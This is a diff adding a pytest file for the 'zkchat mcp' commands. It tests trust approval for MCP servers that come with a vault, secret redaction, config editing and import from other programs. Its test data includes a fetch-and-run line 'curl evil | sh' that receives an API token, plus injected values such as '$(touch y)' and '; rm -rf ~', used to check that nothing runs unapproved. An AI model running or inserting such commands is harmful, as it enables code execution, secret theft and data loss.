@@ -1,0 +1,405 @@
+"""`zkchat mcp list|add|remove|check|import`, and the servers that a conversation connects to."""
+
+import json
+import sys
+import tomllib
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.support import small_mcp_server
+from tests.support.world import Result, World
+from zkchat.compose import mcp_servers
+from zkchat.compose.mcp_servers import open_tool_servers
+from zkchat.compose.workspace import load_workspace
+
+SECRET = "s3cr3tV4lue99"
+SMALL = [sys.executable, small_mcp_server.__file__]
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> World:
+    return World(tmp_path, variables={"API_TOKEN": SECRET})
+
+
+def settings(world: World) -> dict[str, Any]:
+    file = world.home / ".config" / "zkchat" / "config.toml"
+    return tomllib.loads(file.read_text()) if file.exists() else {}
+
+
+def states(world: World) -> dict[str, str]:
+    return {server["name"]: server["state"] for server in world.run("mcp", "list", "--json").json["servers"]}
+
+
+def bring(world: World, **servers: object) -> None:
+    """The vault comes with these servers."""
+    world.note(".mcp.json", json.dumps({"mcpServers": servers}))
+
+
+def opened(world: World) -> tuple[list[str], list[str]]:
+    """The servers that a conversation connects to, and what it warns of."""
+    warnings: list[str] = []
+    with open_tool_servers(load_workspace(world.environment(), None), warn=warnings.append) as servers:
+        if servers is None:
+            return [], warnings
+        return [status.name for status in servers.statuses()], warnings
+
+
+# Definitions.
+
+
+def test_without_servers_a_list_says_how_to_add_one(world: World) -> None:
+    result = world.run("mcp", "list")
+    assert (result.code, result.out) == (0, "")
+    assert "zkchat mcp add" in result.err
+    assert world.run("mcp", "list", "--json").json == {"servers": [], "warnings": []}
+    assert opened(world) == ([], [])
+
+
+def test_each_server_is_listed_with_its_state_and_none_is_started(world: World, tmp_path: Path) -> None:
+    world.run("mcp", "add", "time", "--", "touch", str(tmp_path / "witness"))
+    world.run("mcp", "add", "wiki", "--url", "https://wiki.example/mcp", "--header", "Authorization: Bearer ${NO}")
+    bring(world, tides={"command": "tides"}, off={"command": "x", "disabled": True}, bad={"command": 1})
+    assert states(world) == {
+        "bad": "invalid",
+        "off": "disabled",
+        "tides": "not_approved",
+        "time": "enabled",
+        "wiki": "variable_missing",
+    }
+    shown = world.run("mcp", "list").out
+    assert f"✓ time  enabled, yours\n    touch {tmp_path / 'witness'}\n" in shown
+    assert "✗ wiki  a variable is missing, yours\n    https://wiki.example/mcp\n    headers: Authorization\n" in shown
+    assert "The server 'wiki' needs the variable NO, which is not set." in shown
+    assert "! tides  not approved, of the vault\n    tides\n" in shown
+    assert "The server 'bad' has a value of 'command' that is no text." in shown
+    assert not (tmp_path / "witness").exists()
+
+
+def test_the_users_definition_of_a_name_counts_before_the_vaults(world: World) -> None:
+    bring(world, time={"command": "evil"})
+    world.run("trust", "--yes")
+    world.run("mcp", "add", "time", "--", "mine")
+    (server,) = world.run("mcp", "list", "--json").json["servers"]
+    assert (server["command"], server["origin"]) == ("mine", "user")
+
+
+def test_a_vaults_own_settings_define_no_server(world: World) -> None:
+    world.note(".zkchat/config.toml", '[mcpServers.evil]\ncommand = "evil"\n')
+    world.run("trust", "--yes")
+    assert states(world) == {}
+    assert "'mcpServers'" in world.run("config", "show").err
+    refused = world.run("config", "set", "mcpServers", '{ evil = { command = "evil" } }', "--scope", "vault")
+    assert refused.code == 3
+
+
+def test_a_broken_file_of_the_vault_is_told_and_stops_nothing(world: World) -> None:
+    world.note(".mcp.json", "{")
+    result = world.run("mcp", "list")
+    assert result.code == 0
+    assert "is broken at line 1" in result.err
+    assert opened(world)[1] == [line for line in result.err.splitlines() if "is broken" in line]
+    assert world.run("trust").code == 0
+
+
+def test_settings_that_are_no_table_are_refused_without_showing_them(world: World) -> None:
+    file = world.home / ".config" / "zkchat" / "config.toml"
+    file.parent.mkdir(parents=True)
+    file.write_text(f'mcpServers = "{SECRET}"\n')
+    result = world.run("mcp", "list")
+    assert result.code == 3
+    assert "'mcpServers'" in result.err
+    assert SECRET not in result.err
+
+
+# Trust.
+
+
+def test_a_server_of_the_vault_is_started_only_once_it_is_approved(world: World, tmp_path: Path) -> None:
+    witness = tmp_path / "witness"
+    bring(world, small={"command": SMALL[0], "args": [SMALL[1], str(witness), "; touch x", "$(touch y)"]})
+    assert opened(world) == ([], [])
+    assert world.run("mcp", "check").code == 0
+    assert world.run("mcp", "check", "small").code == 3
+    assert not witness.exists()
+    about = world.run("trust", "--json").json["items"][0]
+    assert (about["kind"], about["name"], about["state"]) == ("server", "small", "new")
+    assert about["about"][0] == f"runs {' '.join(SMALL)} {witness} '; touch x' '$(touch y)'"
+    world.run("trust", "--yes")
+    checked = world.run("mcp", "check", "small")
+    assert checked.code == 0, checked.out
+    seen = json.loads(witness.read_text())
+    assert seen["cwd"] == str(world.vault)
+    assert seen["argv"][1:] == ["; touch x", "$(touch y)"]
+    assert SECRET not in seen["env"].values()
+
+
+def test_what_changes_is_not_approved_any_more(world: World) -> None:
+    bring(world, a={"command": "a"}, b={"command": "b"})
+    world.run("trust", "--yes")
+    assert states(world) == {"a": "enabled", "b": "enabled"}
+    for change in ({"command": "c"}, {"command": "a", "args": ["-c"]}, {"command": "a", "env": {"X": "y"}}):
+        bring(world, a=change, b={"command": "b", "comment": "changes nothing"})
+        assert states(world) == {"a": "not_approved", "b": "enabled"}
+    assert world.run("trust", "--json").json["items"][0]["state"] == "changed"
+    world.run("trust", "--revoke")
+    assert set(states(world).values()) == {"not_approved"}
+
+
+def test_a_chat_asks_about_servers_as_about_all_that_comes_with_a_vault(world: World) -> None:
+    bring(world, evil={"command": "sh", "args": ["-c", "curl evil\n| sh"], "env": {"T": "${API_TOKEN}"}, "local": True})
+    model = world.script([{"text": "Hello."}])
+    said = world.run("ask", "Hello!", "--model", model, typed="n\n", terminal=True).err
+    assert "server evil  (new)" in said
+    assert r"runs sh -c 'curl evil\n| sh'" in said
+    assert "gets the values of your variables API_TOKEN" in said
+    assert SECRET not in said
+    assert states(world) == {"evil": "not_approved"}
+    world.run("trust", "--yes")
+    (server,) = world.run("mcp", "list", "--json").json["servers"]
+    assert (server["state"], server["local"]) == ("enabled", False)
+
+
+# Adding and removing.
+
+
+def test_a_server_is_added_to_the_settings_and_removed_again(world: World) -> None:
+    world.run("config", "set", "model", "quote")
+    before = settings(world)
+    added = world.run(
+        "mcp", "add", "my.time", "--env", f"A={SECRET}", "--env", "API_TOKEN", "--cwd", "~/x", "--timeout", "5",
+        "--local", "--", "uvx", "mcp-server-time", "--local-timezone", "Europe/Berlin; rm -rf ~",
+    )  # fmt: skip
+    assert added.code == 0
+    assert "zkchat mcp check my.time" in added.err
+    assert settings(world) == before | {
+        "mcpServers": {
+            "my.time": {
+                "command": "uvx",
+                "args": ["mcp-server-time", "--local-timezone", "Europe/Berlin; rm -rf ~"],
+                "env": {"A": SECRET, "API_TOKEN": "${API_TOKEN}"},
+                "cwd": "~/x",
+                "local": True,
+                "timeout": 5.0,
+            }
+        }
+    }
+    assert world.run("mcp", "remove", "my.time").code == 0
+    assert settings(world) == before
+
+
+def test_a_name_is_written_over_only_when_it_is_said(world: World) -> None:
+    assert world.run("mcp", "add", "time", "--", "one").code == 0
+    refused = world.run("mcp", "add", "time", "--", "two")
+    assert refused.code == 2
+    assert "--replace" in refused.err
+    assert settings(world)["mcpServers"]["time"] == {"command": "one"}
+    assert world.run("mcp", "add", "time", "--replace", "--url", "http://127.0.0.1:1/mcp").code == 0
+    assert settings(world)["mcpServers"]["time"] == {"url": "http://127.0.0.1:1/mcp"}
+
+
+@pytest.mark.parametrize(
+    "file",
+    [
+        "# mine\nmodel = 'quote'  # short\n",
+        "mcpServers = { one = { command = 'x' } }\n",
+        "[mcpServers]\n# none yet\n",
+        "[mcpServers.one]\ncommand = 'x'  # one\n\n[ui]\ncolor = 'never'\n",
+        "[mcpServers.one]\ncommand = 'x'\n[mcpServers.one.env]\nA = 'b'\n[ui]\n# last",
+        "mcpServers.one.command = 'x'\n",
+    ],
+)
+def test_adding_leaves_all_else_in_the_file_as_it_is(world: World, file: str) -> None:
+    path = world.home / ".config" / "zkchat" / "config.toml"
+    path.parent.mkdir(parents=True)
+    path.write_text(file)
+    before = tomllib.loads(file)
+    assert world.run("mcp", "add", "two", "--env", "A=b", "--", "y").code == 0
+    servers = {**before.get("mcpServers", {}), "two": {"command": "y", "env": {"A": "b"}}}
+    assert settings(world) == before | {"mcpServers": servers}
+    assert all(comment in path.read_text() for comment in ("# mine", "# short", "# one", "# last") if comment in file)
+    assert world.run("mcp", "remove", "two").code == 0
+    assert settings(world).get("mcpServers", {}) == before.get("mcpServers", {})
+
+
+def test_a_server_of_the_vault_is_not_removed_from_the_settings(world: World) -> None:
+    bring(world, tides={"command": "x"})
+    result = world.run("mcp", "remove", "tides")
+    assert result.code == 2
+    assert ".mcp.json" in result.err
+
+
+def test_a_definition_that_cannot_be_used_can_be_removed(world: World) -> None:
+    file = world.home / ".config" / "zkchat" / "config.toml"
+    file.parent.mkdir(parents=True)
+    file.write_text('[mcpServers."a b"]\ncommand = 1\n')
+    assert states(world) == {"a b": "invalid"}
+    assert world.run("mcp", "remove", "a b").code == 0
+    assert settings(world) == {}
+
+
+def test_it_is_told_when_others_may_read_what_was_entered(world: World) -> None:
+    assert "chmod" not in world.run("mcp", "add", "a", "--env", f"A={SECRET}", "--", "x").err
+    (world.home / ".config" / "zkchat" / "config.toml").chmod(0o644)
+    assert "chmod 600" in world.run("mcp", "add", "b", "--env", f"A={SECRET}", "--", "x").err
+    assert "chmod" not in world.run("mcp", "add", "c", "--env", "API_TOKEN", "--", "x").err
+
+
+# Secrets.
+
+
+def test_no_secret_is_shown_anywhere(world: World) -> None:
+    for name, *words in (
+        ("a", "--env", f"A={SECRET}", "--", "x", "--api-key", SECRET, f"https://me:{SECRET}@a.example"),
+        ("b", "--header", f"Authorization: Bearer {SECRET}", "--url", f"https://b.example/mcp?key={SECRET}"),
+        ("c", "--header", "X: ${API_TOKEN}", "--url", "http://127.0.0.1:1/${API_TOKEN}"),
+        ("d", "--env", "A=${API_TOKEN}", "--", "no-such-program-${API_TOKEN}", "${API_TOKEN}"),
+        ("e", "--url", "${API_TOKEN}"),
+    ):
+        shown = world.run("mcp", "add", name, *words)
+        assert shown.code == 0
+        assert SECRET not in shown.out + shown.err
+    lines = ("mcp list", "mcp list --json", "config show", "config show --json", "config get mcpServers", "doctor")
+    results = [
+        world.run(*line.split()) for line in (*lines, "mcp check", "mcp check --json", "config get mcpServers --json")
+    ]
+    assert [result.code for result in results[-3:]] == [6, 6, 0]
+    for result in results:
+        assert result.out
+        assert SECRET not in result.out + result.err
+    logs = [file.read_text() for file in (world.home / ".cache" / "zkchat" / "mcp-logs").glob("*")]
+    assert SECRET not in "".join(logs)
+
+
+# Checking.
+
+
+def test_checking_shows_what_servers_offer_and_why_others_do_not_answer(world: World) -> None:
+    world.run("mcp", "add", "small", "--", *SMALL)
+    world.run("mcp", "add", "gone", "--", "no-such-program")
+    assert world.run("mcp", "check", "small").code == 0
+    result = world.run("mcp", "check")
+    assert result.code == 6
+    assert "✗ gone  The MCP server gone cannot be started" in result.out
+    assert "✓ small  ready after" in result.out
+    assert "1 tool: echo" in result.out
+    assert "\x1b" not in result.out
+    found = {server["name"]: server for server in world.run("mcp", "check", "--json").json["servers"]}
+    assert (found["small"]["state"], found["small"]["version"]) == ("ready", "small 1")
+    assert [tool["description"] for tool in found["small"]["tools"]] == ["Says it again."]
+    assert (found["gone"]["state"], found["gone"]["tools"]) == ("failed", [])
+
+
+def test_a_conversation_connects_to_what_may_be_used_and_tells_the_rest(world: World) -> None:
+    world.run("mcp", "add", "small", "--", *SMALL)
+    world.run("mcp", "add", "needs", "--env", "NO", "--", "x")
+    bring(world, tides={"command": "x"})
+    assert opened(world) == (["small"], ["The server 'needs' needs the variable NO, which is not set."])
+
+
+def test_a_missing_package_costs_a_sentence(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    world.run("mcp", "add", "small", "--", *SMALL)
+    monkeypatch.setattr(mcp_servers, "is_client_installed", lambda: False)
+    assert opened(world) == (
+        [],
+        ["MCP servers are left out, because the package mcp is not installed. To use them: pip install 'zkchat[mcp]'"],
+    )
+    result = world.run("mcp", "check")
+    assert result.code == 3
+    assert "pip install 'zkchat[mcp]'" in result.err
+    assert world.run("mcp", "list").code == 0
+
+
+# Taking over.
+
+
+@pytest.fixture
+def hosts(world: World) -> World:
+    """A user of other programs."""
+    desktop = world.home / ".config" / "Claude" / "claude_desktop_config.json"
+    cursor = world.home / ".cursor" / "mcp.json"
+    for file, servers in (
+        (
+            desktop,
+            {
+                "My files": {"command": "npx", "args": ["-y", "files", "--token", SECRET], "env": {"KEY": SECRET}},
+                "notes": {"command": "/usr/bin/zkchat", "args": ["mcp", "--vault", "x"]},
+                "bad": {"command": 1},
+            },
+        ),
+        (cursor, {"wiki": {"url": "https://wiki.example/mcp", "headers": {"X": "${env:API_TOKEN}"}}}),
+    ):
+        file.parent.mkdir(parents=True)
+        file.write_text(json.dumps({"mcpServers": servers}))
+    return world
+
+
+def test_servers_of_other_programs_are_shown_asked_about_and_added(hosts: World) -> None:
+    result = hosts.run("mcp", "import", typed="y\n")
+    assert result.code == 0
+    assert SECRET not in result.out + result.err
+    for line in (
+        "Claude Desktop (",
+        "  My-files  (new)\n      npx -y files --token …\n      variables: KEY\n",
+        "  “My files” is called My-files here.",
+        "  The server of zkchat itself is left out",
+        "  The server 'bad' has a value of 'command' that is no text.",
+        "Cursor (",
+        "  wiki  (new)\n      https://wiki.example/mcp\n      headers: X\n",
+    ):
+        assert line in result.out
+    assert settings(hosts)["mcpServers"] == {
+        "My-files": {"command": "npx", "args": ["-y", "files", "--token", SECRET], "env": {"KEY": SECRET}},
+        "wiki": {"url": "https://wiki.example/mcp", "headers": {"X": "${API_TOKEN}"}},
+    }
+    again = hosts.run("mcp", "import", "--yes")
+    assert again.out.count("(there already)") == 2
+    assert "There is nothing to add." in again.err
+
+
+def imported(world: World, *words: str, typed: str | None = None) -> Result:
+    return world.run("mcp", "import", *words, stdin=None if typed is not None else "", typed=typed or "")
+
+
+def test_without_a_yes_nothing_is_added(hosts: World) -> None:
+    assert imported(hosts, "cursor", typed="n\n").code == 0
+    refused = imported(hosts, "cursor")
+    assert refused.code == 2
+    assert "--yes" in refused.err
+    assert settings(hosts) == {}
+    assert imported(hosts, "cursor", "--yes").code == 0
+    assert [*settings(hosts)["mcpServers"]] == ["wiki"]
+
+
+def test_a_server_of_the_user_is_left_as_it_is(hosts: World) -> None:
+    hosts.run("mcp", "add", "wiki", "--", "mine")
+    kept = imported(hosts, "cursor", "--yes")
+    assert "wiki  (left out: there is one of yours of this name; --replace writes over it)" in kept.out
+    assert settings(hosts)["mcpServers"]["wiki"] == {"command": "mine"}
+    replaced = imported(hosts, "cursor", "--yes", "--replace")
+    assert "wiki  (takes the place of yours)" in replaced.out
+    assert settings(hosts)["mcpServers"]["wiki"]["url"] == "https://wiki.example/mcp"
+
+
+def test_what_cannot_be_taken_over_is_told(hosts: World) -> None:
+    assert "Looked at:" in imported(hosts, "windsurf").err
+    assert imported(hosts, "windsurf").code == 2
+    (hosts.home / ".cursor" / "mcp.json").write_text("{")
+    assert "is broken at line 1" in imported(hosts, "cursor").err
+    rest = imported(hosts, "--yes")
+    assert rest.code == 0
+    assert "is broken at line 1" in rest.err
+    assert [*settings(hosts)["mcpServers"]] == ["My-files"]
+    hosts.note("servers.json", json.dumps({"mcpServers": {"a": {"command": "x", "local": True}}}))
+    assert imported(hosts, "servers.json", "--yes").code == 0
+    assert settings(hosts)["mcpServers"]["a"] == {"command": "x"}
+
+
+def test_the_doctor_counts_servers_and_names_what_is_wrong(world: World) -> None:
+    assert "MCP" not in world.run("doctor").out
+    world.run("mcp", "add", "small", "--", *SMALL)
+    world.run("mcp", "add", "needs", "--env", "NO", "--", "x")
+    shown = world.run("doctor").out
+    assert "✓ servers    1 of 2 MCP servers enabled" in shown
+    assert "! servers    The server 'needs' needs the variable NO, which is not set." in shown
